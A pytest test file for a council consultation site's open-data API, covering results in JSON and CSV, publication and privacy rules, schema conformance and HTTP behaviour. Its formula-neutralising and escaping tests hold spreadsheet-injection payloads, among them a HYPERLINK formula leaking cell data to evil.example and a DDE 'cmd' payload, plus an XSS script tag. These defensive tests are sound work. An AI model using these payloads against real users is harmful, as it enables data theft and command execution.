"""The open results data: /api/v1/ (JSON and CSV), its OpenAPI document and /open-data/."""

import csv
import io
import json
import random
import uuid
from datetime import date, timedelta

import jsonschema
import pytest
from django.utils import timezone
from openapi_spec_validator import validate as validate_openapi
from wagtail.models import Page, PageViewRestriction, Site

from consultations.analysis.results import consultation_results
from consultations.api.public import documented_only
from consultations.api.schema import OPENAPI, QUESTIONS
from consultations.api.tidy import COLUMNS, neutralise
from consultations.journey import sections_of
from consultations.models import (
    Comment,
    CommentTheme,
    ConsultationIndexPage,
    DecisionStatus,
    ModerationStatus,
    OutcomeDecision,
    OutcomePage,
    RejectionReason,
    Theme,
)
from consultations.questions import QuestionStreamBlock
from consultations.responses import submit_response
from demo import consultations as demo
from demo.budget import seed_budget, synthetic_answer
from tests import builders
from tests.builders import (
    ConsultationIndexPageFactory,
    ConsultationPageFactory,
    HomePageFactory,
    InformationPageFactory,
)

pytestmark = pytest.mark.django_db

LIST = "/api/v1/consultations/"
HOSTILE_LABELS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]
EMAIL = "jo.bloggs@example.org"
PENDING_TEXT = f"Pending words: email me at {EMAIL} about the library"
REJECTED_TEXT = "Rejected words that nobody should read"
REDACTED_ORIGINAL = "My name is Jo Bloggs and I live at 12 Acacia Avenue"
REDACTED_PUBLIC = "My name is [name removed] and I live at [address removed]"


# Making consultations, responses and outcomes ---------------------------------------------------


@pytest.fixture
def council(db):
    """A bare council site (home page, privacy notice, consultation index): quicker than the
    demo council where its consultations are not needed."""
    home = HomePageFactory(parent=Page.get_first_root_node(), slug="kingsmere")
    site = Site.objects.get(is_default_site=True)
    site.root_page = home
    site.save()
    InformationPageFactory(parent=home, slug="privacy", title="Privacy notice")
    ConsultationIndexPageFactory(parent=home)
    return home


def index():
    return ConsultationIndexPage.objects.get()


def closed_consultation(slug, questions=None, **fields):
    """A live, closed consultation under the demo index (closed, so an outcome may be written)."""
    now = timezone.now()
    return ConsultationPageFactory(
        parent=index(),
        slug=slug,
        privacy_notice=Page.objects.get(slug="privacy"),
        opens_at=now - timedelta(days=40),
        closes_at=now - timedelta(days=10),
        **({"questions": questions} if questions is not None else {}),
        **fields,
    )


def publish_outcome(consultation, live=True):
    """A "you said, we did" page under `consultation`, published unless `live` is False."""
    outcome = OutcomePage(
        title=f"Outcome: {consultation.title}",
        slug="outcome",
        summary="What we did.",
        you_said="<p>You told us many things.</p>",
    )
    outcome.decisions.add(
        OutcomeDecision(
            decision="We kept the libraries open",
            status=DecisionStatus.DONE,
            decided_on=date.today(),
        )
    )
    consultation.add_child(instance=outcome)
    revision = outcome.save_revision()
    if live:
        revision.publish()
    else:
        outcome.unpublish()
    return outcome


def questions_by_id(consultation):
    return {q.id: q for section in sections_of(consultation) for q in section.questions}


def every_type_answer(question, rng, text):
    """A clean answer (as the journey would store it) to any question type."""
    value = question.value
    if question.type == "priority_ranking":
        ids = [item.id for item in value["items"].bound_blocks]
        rng.shuffle(ids)
        return {"positions": {item_id: place for place, item_id in enumerate(ids, start=1)}}
    if question.type == "single_choice":
        return {"option": rng.choice([item.id for item in value["options"].bound_blocks])}
    if question.type == "multiple_choice":
        ids = [item.id for item in value["options"].bound_blocks]
        return {"options": rng.sample(ids, 2)}
    if question.type == "agreement_scale":
        return {"option": rng.choice(["agree", "strongly_agree", "disagree"])}
    if question.type == "number":
        return {"number": str(rng.randint(0, 20))}
    if question.type == "free_text":
        return {"text": text}
    if question.type == "about_you":
        wards = [item.id for item in value["wards"].bound_blocks]
        return {
            "age_band": "35_44",
            "ward": wards[0],
            "connection": ["live"],
            "postcode_district": "KM1",
        }
    if question.type == "budget_simulator":
        return synthetic_answer(rng, value["budget"].simulator_spec)
    raise AssertionError(f"no answer made for {question.type}")


def respond_to_every_question(consultation, texts):
    """One response per text, answering every question (the free text with that text)."""
    rng = random.Random(consultation.slug)
    questions = questions_by_id(consultation)
    for text in texts:
        answers = {qid: every_type_answer(q, rng, text) for qid, q in questions.items()}
        submit_response(consultation, questions, answers, token=uuid.uuid4())


def moderate(text, status, public_text="", reason=""):
    Comment.objects.filter(answer__text=text).update(
        status=status, public_text=public_text, rejection_reason=reason
    )


@pytest.fixture
def every_type(council):
    """A closed consultation asking every question type, with 12 responses and comments in
    every moderation state (the free text holding an email address), not yet published."""
    consultation = closed_consultation(
        "every-question",
        questions=demo.budget_questions("every-question", seed_budget("2027/28")),
        title="Every question",
    )
    everyday = [f"Everyday comment number {n}" for n in range(9)]
    respond_to_every_question(
        consultation, [PENDING_TEXT, REJECTED_TEXT, REDACTED_ORIGINAL, *everyday]
    )
    moderate(REJECTED_TEXT, ModerationStatus.REJECTED, reason=RejectionReason.OFF_TOPIC)
    moderate(REDACTED_ORIGINAL, ModerationStatus.REDACTED, public_text=REDACTED_PUBLIC)
    for text in everyday:
        moderate(text, ModerationStatus.APPROVED, public_text=text)
    theme = Theme.objects.create(consultation=consultation, name="Libraries")
    for comment in Comment.objects.filter(status=ModerationStatus.APPROVED):
        CommentTheme.objects.create(comment=comment, theme=theme)
    return consultation


@pytest.fixture
def published(every_type):
    publish_outcome(every_type)
    return every_type


def hostile_questions():
    """An officer's single choice whose option labels look like spreadsheet formulas."""
    labels = [*HOSTILE_LABELS, "-3.5"]
    return [
        builders.section(
            "hostile/one",
            "Questions",
            "",
            [
                builders.question(
                    "hostile/choice",
                    "single_choice",
                    "=cmd|' /C calc'!A0",
                    options=builders.items("hostile/options", [(label, "") for label in labels]),
                )
            ],
        )
    ]


def get_json(client, url, status=200):
    response = client.get(url)
    assert response.status_code == status, response.content
    assert response["Content-Type"].startswith("application/json")
    return response.json()


def csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def results_url(consultation, suffix="results/"):
    return f"{LIST}{consultation.slug}/{suffix}"


# The list of consultations ----------------------------------------------------------------------


def test_list_shows_every_live_public_consultation_newest_closing_first(client, demo_site):
    body = get_json(client, LIST)
    assert body["count"] == 5
    assert [c["slug"] for c in body["results"]][:2] == ["town-centre-parking", "budget-2027-28"]
    first = body["results"][0]
    assert first["title"] == "Town centre parking charges"
    assert first["status"] == "upcoming"
    assert first["url"] == "http://testserver/consultations/town-centre-parking/"
    assert first["topics"] == [{"slug": "transport", "name": "Transport"}]
    assert first["areas"] == [{"slug": "kingsmere-central", "name": "Kingsmere Central"}]


def test_list_leaves_out_drafts_and_private_consultations(client, demo_site):
    draft = closed_consultation("draft-consultation")
    draft.unpublish()
    private = closed_consultation("private-consultation")
    PageViewRestriction.objects.create(page=private, restriction_type=PageViewRestriction.LOGIN)
    slugs = {c["slug"] for c in get_json(client, LIST)["results"]}
    assert slugs.isdisjoint({"draft-consultation", "private-consultation"})


@pytest.mark.parametrize(
    ("status", "expected"),
    [
        ("open", ["budget-2027-28"]),
        ("upcoming", ["town-centre-parking"]),
        (
            "closed",
            ["parks-and-green-spaces-strategy", "housing-allocations-policy", "budget-2026-27"],
        ),
    ],
)
def test_list_filters_by_status(client, demo_site, status, expected):
    body = get_json(client, f"{LIST}?status={status}")
    assert [c["slug"] for c in body["results"]] == expected
    assert {c["status"] for c in body["results"]} == {status}


def test_list_refuses_an_unknown_status(client, council):
    body = get_json(client, f"{LIST}?status=finished", status=400)
    assert "open, closed, upcoming" in body["error"] or "upcoming, open, closed" in body["error"]


def test_list_links_results_only_once_the_outcome_is_published(client, every_type):
    def entry():
        body = get_json(client, f"{LIST}?status=closed")
        return next(c for c in body["results"] if c["slug"] == "every-question")

    before = entry()
    assert before["outcome_url"] is None
    assert before["results_url"] is None
    assert before["results_csv_url"] is None
    assert before["response_count"] is None
    publish_outcome(every_type)
    after = entry()
    assert after["outcome_url"] == "http://testserver/consultations/every-question/outcome/"
    assert after["results_url"] == "http://testserver/api/v1/consultations/every-question/results/"
    assert after["results_csv_url"] == (
        "http://testserver/api/v1/consultations/every-question/results.csv"
    )
    assert after["response_count"] == 12


def test_list_gives_fifty_a_page_with_links_to_the_next_and_previous(client, demo_site):
    for n in range(50):
        closed_consultation(f"old-consultation-{n}")
    first = get_json(client, f"{LIST}?status=closed")
    assert first["count"] == 53
    assert len(first["results"]) == 50
    assert first["previous"] is None
    assert first["next"] == "http://testserver/api/v1/consultations/?status=closed&page=2"
    second = get_json(client, first["next"])
    assert len(second["results"]) == 3
    assert second["next"] is None
    assert second["previous"] == "http://testserver/api/v1/consultations/?status=closed&page=1"
    slugs = [c["slug"] for c in first["results"] + second["results"]]
    assert len(set(slugs)) == 53


@pytest.mark.parametrize("page", ["0", "-1", "2", "abc", "1.5", "1e3", "9" * 5000, "\x00", "١"])
def test_list_answers_a_bad_page_number_with_400(client, council, page):
    body = get_json(client, LIST + "?" + f"page={page}", status=400)
    assert "page" in body["error"]


# Results: when they are public -----------------------------------------------------------------


def test_results_are_not_found_until_the_outcome_is_published(client, every_type):
    for url in (results_url(every_type), results_url(every_type, "results.csv")):
        body = get_json(client, url, status=404)
        assert "no published results" in body["error"]
    publish_outcome(every_type)
    assert client.get(results_url(every_type)).status_code == 200
    assert client.get(results_url(every_type, "results.csv")).status_code == 200


def test_results_stay_hidden_while_the_outcome_is_a_draft(client, every_type):
    publish_outcome(every_type, live=False)
    get_json(client, results_url(every_type), status=404)


def test_results_are_hidden_when_the_consultation_is_made_private(client, published):
    PageViewRestriction.objects.create(page=published, restriction_type=PageViewRestriction.LOGIN)
    get_json(client, results_url(published), status=404)


def test_results_are_hidden_when_the_consultation_is_unpublished(client, published):
    published.unpublish()
    get_json(client, results_url(published), status=404)


@pytest.mark.parametrize(
    "slug", ["no-such-consultation", "%00", "x" * 300, "caf%C3%A9", "%F0%9F%92%A9", "a%20b"]
)
def test_results_for_odd_slugs_are_a_json_404(client, council, slug):
    get_json(client, f"{LIST}{slug}/results/", status=404)
    get_json(client, f"{LIST}{slug}/results.csv", status=404)


def test_unknown_api_addresses_answer_a_json_404(client, council):
    get_json(client, "/api/v1/no-such-thing/", status=404)
    get_json(client, f"{LIST}budget-2027-28/", status=404)


# Results: JSON --------------------------------------------------------------------------------


def test_results_are_the_results_dictionary_with_licence_and_outcome(client, published):
    body = get_json(client, results_url(published))
    assert body.pop("licence") == {
        "name": "Open Government Licence v3.0",
        "url": "https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/",
    }
    assert body.pop("outcome_url") == "http://testserver/consultations/every-question/outcome/"
    assert body == json.loads(json.dumps(consultation_results(published)))


def test_results_cover_every_question_type(client, published):
    body = get_json(client, results_url(published))
    assert {q["type"] for q in body["questions"]} == set(QUESTIONS)
    assert body["responses"]["total"] == 12


def test_results_format_other_than_json_or_csv_is_refused(client, published):
    body = get_json(client, results_url(published) + "?format=xml", status=400)
    assert body["error"] == "format must be one of: json, csv, html."


def test_results_explicitly_asked_for_as_json_are_json(client, published):
    assert get_json(client, results_url(published) + "?format=json")["responses"]["total"] == 12


# Results: CSV ---------------------------------------------------------------------------------


def test_csv_is_a_utf8_attachment_named_after_the_consultation(client, published):
    response = client.get(results_url(published, "results.csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == ('attachment; filename="every-question-results.csv"')
    header = response.content.decode("utf-8").splitlines()[0]
    assert header == ",".join(COLUMNS)


def test_csv_format_query_gives_the_same_table(client, published):
    as_file = client.get(results_url(published, "results.csv"))
    as_query = client.get(results_url(published) + "?format=csv")
    assert as_query["Content-Type"] == "text/csv; charset=utf-8"
    assert as_query.content == as_file.content


def test_csv_has_one_row_per_number_matching_the_json(client, published):
    body = get_json(client, results_url(published))
    rows = csv_rows(client.get(results_url(published, "results.csv")))
    assert all(row["value"] == "" or float(row["value"]) is not None for row in rows)
    total = next(row for row in rows if row["measure"] == "responses.total")
    assert int(total["value"]) == body["responses"]["total"]
    choice = next(q for q in body["questions"] if q["type"] == "single_choice")
    counts = {
        row["item_key"]: int(row["value"])
        for row in rows
        if row["question_id"] == choice["id"] and row["measure"] == "options.count"
    }
    assert counts == {option["key"]: option["count"] for option in choice["options"]}
    ranking = next(q for q in body["questions"] if q["type"] == "priority_ranking")
    points = {
        row["item_key"]: int(row["value"])
        for row in rows
        if row["question_id"] == ranking["id"] and row["measure"] == "items.points"
    }
    assert points == {item["key"]: item["points"] for item in ranking["items"]}
    pairs = [row for row in rows if row["measure"] == "pairwise.preferred_over"]
    assert len(pairs) == len(ranking["items"]) * (len(ranking["items"]) - 1)


def test_csv_leaves_hidden_small_numbers_empty(client, every_type):
    # Three residents aged 65 to 74 beside twelve aged 35 to 44: too few to show.
    questions = questions_by_id(every_type)
    rng = random.Random("older")
    for n in range(3):
        answers = {qid: every_type_answer(q, rng, f"Older {n}") for qid, q in questions.items()}
        about = next(qid for qid, q in questions.items() if q.type == "about_you")
        answers[about]["age_band"] = "65_74"
        submit_response(every_type, questions, answers, token=uuid.uuid4())
    publish_outcome(every_type)
    published = every_type
    body = get_json(client, results_url(published))
    about = next(q for q in body["questions"] if q["type"] == "about_you")
    age = next(part for part in about["parts"] if part["key"] == "age_band")
    hidden = [option["key"] for option in age["options"] if option.get("suppressed")]
    assert hidden, "some age bands should be too small to show"
    rows = csv_rows(client.get(results_url(published, "results.csv")))
    for key in hidden:
        row = next(
            r
            for r in rows
            if r["measure"] == "parts.options.count" and r["item_key"] == f"age_band/{key}"
        )
        assert row["value"] == ""


def test_csv_neutralises_formulas_in_officers_labels(client, council):
    consultation = closed_consultation("hostile", questions=hostile_questions(), title="@Hostile")
    respond_to_every_question(consultation, ["x"] * 3)
    Theme.objects.create(consultation=consultation, name="=1+1")
    publish_outcome(consultation)
    rows = csv_rows(client.get(results_url(consultation, "results.csv")))
    labels = {row["item_label"] for row in rows if row["measure"] == "options.count"}
    assert labels == {"'" + label for label in HOSTILE_LABELS} | {"-3.5"}
    assert {row["question"] for row in rows if row["question_id"]} == {"'=cmd|' /C calc'!A0"}
    cells = [cell for row in rows for cell in row.values()]
    formula_starts = ("=", "+", "-", "@", "\t", "\r", "\n")
    risky = [cell for cell in cells if cell.startswith(formula_starts)]
    assert set(risky) <= {"-3.5"}


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("==1+1", "'==1+1"),
        ("+44 1632 960000", "'+44 1632 960000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcalc", "'\tcalc"),
        ("\rcalc", "'\rcalc"),
        ("\ncalc", "'\ncalc"),
        ("-3.5", "-3.5"),
        ("-١٢", "'-١٢"),
        (-3.5, "-3.5"),
        (-7, "-7"),
        ("-1e-05", "-1e-05"),
        (12.5, "12.5"),
        (None, ""),
        ("Libraries", "Libraries"),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_quotes_what_could_run_as_a_formula_but_not_numbers(cell, shown):
    assert neutralise(cell) == shown


# Nothing private ------------------------------------------------------------------------------


def every_key(value):
    if isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from every_key(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from every_key(inner)


def test_no_residents_words_emails_or_references_reach_the_open_data(client, published):
    from consultations.models import Answer, Response

    json_text = client.get(results_url(published)).content.decode("utf-8")
    csv_text = client.get(results_url(published, "results.csv")).content.decode("utf-8")
    list_text = client.get(LIST + "?status=closed").content.decode("utf-8")
    private = [
        EMAIL,
        "email me",
        PENDING_TEXT,
        REJECTED_TEXT,
        REDACTED_ORIGINAL,
        "Acacia",
        REDACTED_PUBLIC,
        "Everyday comment",
        "KM1",
        *Response.objects.filter(consultation=published).values_list("reference", flat=True),
        *Answer.objects.exclude(text="").values_list("text", flat=True),
    ]
    for text in (json_text, csv_text, list_text):
        for secret in private:
            assert secret not in text
    keys = set(every_key(json.loads(json_text))) | set(every_key(json.loads(list_text)))
    assert keys.isdisjoint({"text", "public_text", "email", "user", "user_id", "reference"})


def test_only_documented_fields_are_published(published):
    results = consultation_results(published)
    results["secret"] = "leak"
    results["questions"][0]["original_text"] = "leak"
    results["questions"].append({"id": "x", "type": "future_type", "question": "leak"})
    kept = documented_only(results, "Results")
    assert "leak" not in json.dumps(kept)
    assert len(kept["questions"]) == len(results["questions"]) - 1


# The OpenAPI document -------------------------------------------------------------------------


def test_schema_is_a_valid_openapi_3_1_document():
    assert OPENAPI["openapi"] == "3.1.0"
    validate_openapi(OPENAPI)


def test_schema_is_served_as_openapi_json(client, db):
    response = client.get("/api/v1/schema/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.oai.openapi+json"
    assert response.json() == json.loads(json.dumps(OPENAPI))


def test_every_question_type_has_a_documented_shape():
    assert set(QUESTIONS) == set(QuestionStreamBlock().child_blocks)


def conforms(body, schema_name):
    schema = {"$ref": f"#/components/schemas/{schema_name}", "components": OPENAPI["components"]}
    validator = jsonschema.Draft202012Validator(
        schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    )
    errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(body)]
    assert errors == []


def test_results_conform_to_the_schema(client, published):
    conforms(get_json(client, results_url(published)), "Results")


def test_the_whole_results_dictionary_is_documented(published):
    results = json.loads(json.dumps(consultation_results(published)))
    assert documented_only(results, "Results") == results


def test_consultation_list_conforms_to_the_schema(client, published):
    conforms(get_json(client, LIST), "ConsultationList")


def test_errors_conform_to_the_schema(client, council):
    conforms(get_json(client, f"{LIST}?page=zero", status=400), "Error")
    conforms(get_json(client, f"{LIST}nothing/results/", status=404), "Error")


# HTTP behaviour -------------------------------------------------------------------------------


API_ADDRESSES = [LIST, "/api/v1/schema/", f"{LIST}every-question/results/"]


@pytest.mark.parametrize("url", [*API_ADDRESSES, f"{LIST}every-question/results.csv"])
def test_open_data_can_be_read_from_any_site_and_cached_for_five_minutes(client, published, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Access-Control-Allow-Origin"] == "*"
    assert response["Cache-Control"] == "public, max-age=300"
    assert "Cookie" not in response.get("Vary", "")
    assert not response.cookies


@pytest.mark.parametrize("method", ["post", "put", "patch", "delete", "options"])
@pytest.mark.parametrize("url", API_ADDRESSES)
def test_api_answers_only_get_and_head(client, db, method, url):
    response = getattr(client, method)(url)
    assert response.status_code == 405
    assert response["Allow"] == "GET, HEAD"
    assert "GET and HEAD" in response.json()["error"]


@pytest.mark.parametrize("url", API_ADDRESSES)
def test_head_is_answered_like_get(client, published, url):
    head, get = client.head(url), client.get(url)
    assert head.status_code == 200
    assert head["Content-Type"] == get["Content-Type"]
    assert head["Cache-Control"] == get["Cache-Control"]


def test_errors_are_not_cached(client, council):
    response = client.get(f"{LIST}nothing/results/")
    assert response["Cache-Control"] == "no-cache"
    assert response["Access-Control-Allow-Origin"] == "*"


BROWSER_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"


@pytest.mark.parametrize("url", API_ADDRESSES)
def test_a_browser_is_shown_the_json_in_a_page_of_the_site(client, published, url):
    response = client.get(url, HTTP_ACCEPT=BROWSER_ACCEPT)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "Accept" in response["Vary"]
    html = response.content.decode()
    assert 'class="govuk-heading-xl"' in html
    assert f'href="{url}?format=json"' in html
    assert "&quot;" in html and "<script" not in html.split("</main>")[0]


def test_officers_text_is_escaped_in_the_page_for_browsers(client, published):
    published.title = "<script>alert(1)</script>"
    published.save_revision().publish()
    response = client.get(results_url(published), HTTP_ACCEPT=BROWSER_ACCEPT)
    html = response.content.decode()
    assert "<script>alert(1)" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


@pytest.mark.parametrize("url", API_ADDRESSES)
def test_pages_for_browsers_are_neither_shared_nor_cached_publicly(client, published, url):
    response = client.get(url, HTTP_ACCEPT=BROWSER_ACCEPT)
    assert "Access-Control-Allow-Origin" not in response
    assert "public" not in response.get("Cache-Control", "")


@pytest.mark.parametrize("url", API_ADDRESSES)
def test_format_json_gives_a_browser_the_raw_json(client, published, url):
    response = client.get(url + "?format=json", HTTP_ACCEPT=BROWSER_ACCEPT)
    assert response["Content-Type"] in ("application/json", "application/vnd.oai.openapi+json")
    assert response["Access-Control-Allow-Origin"] == "*"
    response.json()


def test_api_errors_in_a_browser_say_what_is_wrong_in_a_page(client, council):
    response = client.get(f"{LIST}nothing/results/", HTTP_ACCEPT=BROWSER_ACCEPT)
    assert response.status_code == 404
    assert response["Content-Type"].startswith("text/html")
    assert "There are no published results for this consultation." in response.content.decode()


@pytest.mark.parametrize(
    "accept",
    ["", ";;;", "text/html;q=abc", "application/json;q=0", "*/*;q=0", "text/*", "garbage/"],
)
def test_odd_accept_headers_still_get_an_answer(client, published, accept):
    response = client.get(f"{LIST}every-question/results/", HTTP_ACCEPT=accept)
    assert response.status_code == 200


@pytest.mark.parametrize("url", [LIST, "/api/v1/schema/"])
def test_format_csv_is_only_for_results(client, db, url):
    assert (
        get_json(client, url + "?format=csv", status=400)["error"]
        == "format must be one of: json, html."
    )


# The page for people --------------------------------------------------------------------------


def test_api_root_leads_people_to_the_open_data_page(client, db):
    response = client.get("/api/v1/")
    assert response.status_code == 302
    assert response["Location"] == "/open-data/"


def test_open_data_page_lists_published_results_with_json_and_csv(client, published):
    response = client.get("/open-data/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Open Government Licence v3.0" in html
    assert "below 10" in html
    assert 'href="/consultations/every-question/outcome/"' in html
    assert 'href="/api/v1/consultations/every-question/results/"' in html
    assert 'href="/api/v1/consultations/every-question/results.csv"' in html
    assert 'href="/api/v1/schema/"' in html


def test_open_data_page_says_when_nothing_is_published_yet(client, council):
    html = client.get("/open-data/").content.decode()
    assert "No results are published yet." in html
